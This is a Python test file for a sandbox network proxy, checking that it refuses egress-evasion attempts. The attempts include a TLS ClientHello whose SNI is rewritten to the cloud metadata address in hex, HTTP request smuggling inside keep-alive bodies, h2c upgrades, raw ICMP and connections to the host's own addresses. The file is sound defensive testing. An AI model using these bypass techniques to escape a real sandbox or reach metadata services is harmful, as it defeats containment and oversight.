def test_tls_hello_split_over_segments(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    code = f"""
import socket, ssl, time
ctx = ssl.create_default_context()
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(inc, out, server_hostname="github.com")
try:
    obj.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = out.read()
s = socket.create_connection(({fakenet.addr("github.com")!r}, 443), timeout=5)
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
for i in range(0, len(hello), 7):
    s.sendall(hello[i:i + 7])
    time.sleep(0.002)
print(s.recv(5)[:1].hex())
"""
    r = sandbox.python(code)
    assert r.stdout.strip() == "16", r     # a ServerHello record came back


def test_tls_sni_ip_literal_of_metadata_reset(sandbox, fakenet, ctl):
    """An SNI that is the metadata address in hex (a ClientHello for
    "github.com" with its 10 name bytes replaced by "0xa9fea9fe"): decided
    as that address, refused with a reset."""
    sandbox.set(ENFORCE, hosts=["*"])
    m, em = fakenet.mark(), ctl.mark()
    code = f"""
import socket, ssl
ctx = ssl.create_default_context()
inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
obj = ctx.wrap_bio(inc, out, server_hostname="github.com")
try:
    obj.do_handshake()
except ssl.SSLWantReadError:
    pass
hello = out.read()
assert hello.count(b"github.com") == 1
hello = hello.replace(b"github.com", b"0xa9fea9fe")
s = socket.create_connection(({fakenet.addr("example.test")!r}, 443), timeout=5)
s.sendall(hello)
try:
    print("got", s.recv(5))
except Exception as e:
    print("ERR", type(e).__name__)
"""
    r = sandbox.python(code)
    assert r.stdout.strip() in ("ERR ConnectionResetError", "got b''"), r
    ev = ctl.wait_event(em, kind="tcp", sni="169.254.169.254")
    assert ev["verdict"] == "deny" and "169.254" in ev["rule"], ev
    fakenet.assert_nothing_seen(m)


def test_h2c_upgrade_refused(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m = fakenet.mark()
    st = raw_http(sandbox, fakenet.addr("github.com"), 80,
                  b"GET / HTTP/1.1\r\nHost: github.com\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                  b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n")
    assert st.startswith("HTTP/1.1 400"), st
    assert_no_connection(fakenet, m)


def test_oversized_head_refused(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m = fakenet.mark()
    req = b"GET / HTTP/1.1\r\nHost: github.com\r\n" + b"X-Pad: " + b"a" * 70000 + b"\r\n\r\n"
    out = raw_connect(sandbox, fakenet.addr("github.com"), 80, req)
    assert "200 OK" not in out
    fakenet.assert_nothing_seen(m)


def test_cached_answers_decided_again(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    assert sandbox.curl("https://github.com/echo")[1] == 200
    sandbox.enforce("github.com", denied=[fakenet.addr("github.com", 4) + "/32",
                                          fakenet.addr("github.com", 6) + "/128"])
    m = fakenet.mark()
    assert sandbox.curl("https://github.com/echo")[0] != 0
    assert_no_connection(fakenet, m)


def test_head_ending_at_buffer_boundaries(sandbox, fakenet, ctl):
    """A request head exactly as long as the proxy's first read buffer (and
    its later sizes) is decided at once, not after the head timeout."""
    sandbox.enforce("github.com")
    base = b"GET /echo HTTP/1.1\r\nHost: github.com\r\nX-Pad: "
    for total in (4096, 16384, 65535):
        pad = total - len(base) - 4
        t = time.time()
        st = raw_http(sandbox, fakenet.addr("github.com"), 80, base + b"a" * pad + b"\r\n\r\n")
        assert st.startswith("HTTP/1.1 200"), (total, st)
        assert time.time() - t < 5


# --- keep-alive: every request is checked -------------------------------------------

KA = r"""
import socket, sys, time
s = socket.create_connection((sys.argv[1], 80), timeout=5)
for req in sys.argv[2:]:
    s.sendall(req.encode().decode("unicode_escape").encode("latin-1"))
    time.sleep(0.3)
out = b""
try:
    while True:
        d = s.recv(65536)
        if not d: break
        out += d
except Exception as e:
    out += ("\nERR " + type(e).__name__).encode()
print(out.decode("latin-1"))
"""


def keepalive(sandbox, ip, *reqs):
    r = sandbox.run([__import__("sys").executable, "-c", KA, ip, *reqs], timeout=30)
    return r.stdout


def test_keepalive_second_request_other_host_refused(sandbox, fakenet, ctl):
    sandbox.enforce("github.com", "pypi.org")
    m, em = fakenet.mark(), ctl.mark()
    out = keepalive(sandbox, fakenet.addr("github.com"),
                    "GET /echo HTTP/1.1\\r\\nHost: github.com\\r\\n\\r\\n",
                    "GET /echo HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n")
    assert out.count("HTTP/1.1 200") == 1, out
    ev = ctl.wait_event(em, kind="tcp", host="pypi.org")
    assert ev["verdict"] == "deny" and "another host" in ev["reason"], ev
    fakenet.settle()
    assert len(fakenet.http_requests(since=m)) == 1
    assert not fakenet.http_requests(since=m, host="pypi.org")


def test_keepalive_bodies_and_pipelining_same_host(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m = fakenet.mark()
    body = "x" * 3000
    chunked = "5\\r\\nhello\\r\\n3;ext=1\\r\\nabc\\r\\n0\\r\\nX-T: 1\\r\\n\\r\\n"
    out = keepalive(
        sandbox, fakenet.addr("github.com"),
        f"POST /echo HTTP/1.1\\r\\nHost: github.com\\r\\nContent-Length: {len(body)}\\r\\n\\r\\n{body}",
        "POST /echo HTTP/1.1\\r\\nHost: GitHub.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n" + chunked +
        "GET /echo?3 HTTP/1.1\\r\\nHost: github.com\\r\\n\\r\\n"
        "GET /echo?4 HTTP/1.1\\r\\nHost: github.com\\r\\nConnection: close\\r\\n\\r\\n")
    assert out.count("HTTP/1.1 200") == 4, out
    fakenet.settle()
    reqs = fakenet.http_requests(since=m)
    assert [r["body_bytes"] for r in reqs] == [3000, 8, 0, 0], reqs


def test_keepalive_request_hidden_in_body_is_body(sandbox, fakenet, ctl):
    """A request head inside a Content-Length body is body, not a request:
    nothing is smuggled past the check, and nothing is refused wrongly."""
    sandbox.enforce("github.com")
    m = fakenet.mark()
    inner = "GET /x HTTP/1.1\\r\\nHost: pypi.org\\r\\n\\r\\n"
    n = len(inner.encode().decode("unicode_escape"))
    out = keepalive(sandbox, fakenet.addr("github.com"),
                    f"POST /echo HTTP/1.1\\r\\nHost: github.com\\r\\nContent-Length: {n}\\r\\n"
                    f"Connection: close\\r\\n\\r\\n{inner}")
    assert out.count("HTTP/1.1 200") == 1, out
    fakenet.settle()
    assert not fakenet.http_requests(since=m, host="pypi.org")


def test_dns_over_ipv6_redirected_and_enforced(sandbox, fakenet, ctl):
    sandbox.enforce("github.com")
    m = fakenet.mark()
    assert dig(sandbox, "pypi.org", server=fakenet.dns6)["rcode"] == 3
    assert dig(sandbox, "pypi.org", "AAAA", tcp=True, server=fakenet.dns6)["rcode"] == 3
    fakenet.assert_nothing_seen(m)
    r = dig(sandbox, "github.com", "AAAA", server=fakenet.dns6)
    assert r["rcode"] == 0 and r["an"] == 1


PING = r"""
import socket, struct, sys
dst, v6 = sys.argv[1], ":" in sys.argv[1]
if v6:
    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    pkt = struct.pack(">BBHHH", 128, 0, 0, 7, 1) + b"warren"   # kernel fills the checksum
else:
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    body = struct.pack(">BBHHH", 8, 0, 0, 7, 1) + b"warren"
    c = sum(struct.unpack(">%dH" % (len(body) // 2), body))
    c = (c >> 16) + (c & 0xffff); c += c >> 16
    pkt = body[:2] + struct.pack(">H", ~c & 0xffff) + body[4:]
s.settimeout(1.5)
s.sendto(pkt, (dst, 0))
try:
    while True:
        d = s.recv(2048)
        t = d[0] if v6 else d[20]
        if t in (0, 129):
            print("reply"); break
except socket.timeout:
    print("timeout")
"""


def test_icmp_dropped(sandbox, fakenet, ctl):
    sandbox.set(OPEN)
    # the check itself works: a client netns of the bed (routed, no proxy) gets replies
    r = fakenet.client.run([__import__("sys").executable, "-c", PING, fakenet.addr("example.test")])
    assert r.stdout.strip() == "reply", r
    m = fakenet.mark()
    for fam in (4, 6):
        r = sandbox.run([__import__("sys").executable, "-c", PING, fakenet.addr("example.test", fam)])
        assert r.stdout.strip() == "timeout", r
    fakenet.assert_nothing_seen(m)


def test_host_own_addresses_refused(sandbox, fakenet, ctl):
    """A sandbox dialing the host itself (any port) is redirected to the
    proxy like everything else; the host's addresses (--deny-addr, supplied
    by warrend) are refused even with no policy."""
    sandbox.set(OPEN)
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind((sandbox.net.host4, 0))
    srv.listen(8)
    srv.settimeout(0.5)
    port = srv.getsockname()[1]
    try:
        em = ctl.mark()
        out = raw_connect(sandbox, sandbox.net.host4, port, b"\x00raw")
        assert not out.startswith("OK b'\\x00raw"), out
        with pytest.raises(socket.timeout):
            srv.accept()
        ev = ctl.wait_event(em, kind="tcp", port=port)
        assert ev["verdict"] == "deny" and "host address" in ev["rule"] + ev["reason"], ev
    finally:
        srv.close()


BULK_THEN_SMALL = r"""
import socket, sys, time
ip = sys.argv[1]
s = socket.create_connection((ip, 80), timeout=10)
def response():
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    n = int([l.split(b":")[1] for l in head.split(b"\r\n") if l.lower().startswith(b"content-length")][0])
    got = 0
    while got < n:
        got += len(s.recv(min(1 << 20, n - got)))
    return got
s.sendall(b"GET /bytes/8388608 HTTP/1.1\r\nHost: example.test\r\n\r\n")
big = response()
worst = 0.0
for i in range(20):
    t = time.perf_counter()
    s.sendall(b"GET /echo?%d HTTP/1.1\r\nHost: example.test\r\n\r\n" % i)
    small = response()
    worst = max(worst, time.perf_counter() - t)
print(big, small, "%.4f" % worst)
"""


def test_small_responses_after_a_bulk_one_are_not_held(sandbox, fakenet, ctl):
    """A bulk relay raises the read side's SO_RCVLOWAT (fewer wakeups); a
    small response after it on the same connection must still go through
    at once (the small read or the 2 ms timer lowers it again), never wait
    for more bytes that will not come."""
    sandbox.enforce("example.test")
    r = sandbox.run([__import__("sys").executable, "-c", BULK_THEN_SMALL,
                     fakenet.addr("example.test")], timeout=60)
    big, small, worst = r.stdout.split()
    assert int(big) == 8 << 20 and int(small) > 0, r.stderr
    # each small request/response: well under a second (a held response
    # would wait for the connection's idle timeout instead)
    assert float(worst) < 0.5, r.stdout
